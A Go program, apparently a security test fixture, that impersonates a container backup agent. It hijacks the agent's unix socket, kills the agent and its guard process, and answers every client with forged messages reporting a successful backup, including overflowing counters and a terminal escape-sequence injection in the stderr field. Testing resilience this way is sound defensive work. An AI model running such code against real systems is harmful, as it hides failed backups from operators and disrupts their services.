package main

import (
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
)

// Where the agent of the container listens, and where its program is.
const (
	sockets = "/.backup-operator/run"
	program = "/.backup-operator/bin/agent"
)

// What the impostor says to whoever connects: it has finished, and all went well.
var lies = []string{
	`{"type":"welcome","version":2,"state":"finished"}`,
	`{"type":"progress","bytes":18446744073709551615,"storedBytes":18446744073709551615}`,
	`{"type":"finished","outcome":{"outcome":"done"},"bytes":1000000,"storedBytes":5,` +
		`"sha256":"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",` +
		`"parts":[{"number":1,"size":5,"checksum":"47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=","etag":"\"e\""}],` +
		`"stderr":"` + `\u001b[2J\u001b]0;pwned\u0007` + `","peakMemory":1}`,
}

// impostor takes the place of the agent that has started it: its own socket under the agent's name, then the agent
// and its guard killed. Whoever connects is told lies, for as long as the container lives.
func impostor() error {
	if err := os.WriteFile(program, []byte("#!/bin/false\n"), 0o755); err == nil {
		return fmt.Errorf("%s could be written to", program)
	}
	names, err := filepath.Glob(sockets + "/*.sock")
	if err != nil || len(names) != 1 {
		return fmt.Errorf("the agent's socket is not one of %v: %w", names, err)
	}
	own := names[0] + ".own"
	listener, err := net.Listen("unix", own)
	if err != nil {
		return err
	}
	if err := os.Rename(own, names[0]); err != nil {
		return err
	}
	// The guard first: it would kill all that an agent leaves behind.
	agent := os.Getppid()
	guard, err := parent(agent)
	if err != nil {
		return err
	}
	for _, pid := range []int{guard, agent} {
		if err := syscall.Kill(pid, syscall.SIGKILL); err != nil {
			return err
		}
	}
	for {
		connection, err := listener.Accept()
		if err != nil {
			return err
		}
		go lie(connection)
	}
}

// parent is the fourth field of proc_pid_stat(5); the name before it has neither blanks nor brackets here.
func parent(pid int) (int, error) {
	stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return 0, err
	}
	fields := strings.Fields(string(stat))
	if len(fields) < 4 {
		return 0, fmt.Errorf("/proc/%d/stat has %d fields", pid, len(fields))
	}
	return strconv.Atoi(fields[3])
}

func lie(connection net.Conn) {
	defer connection.Close()
	for _, words := range lies {
		frame := binary.BigEndian.AppendUint32(nil, uint32(len(words)))
		if _, err := connection.Write(append(frame, words...)); err != nil {
			return
		}
	}
	io.Copy(io.Discard, connection)
}
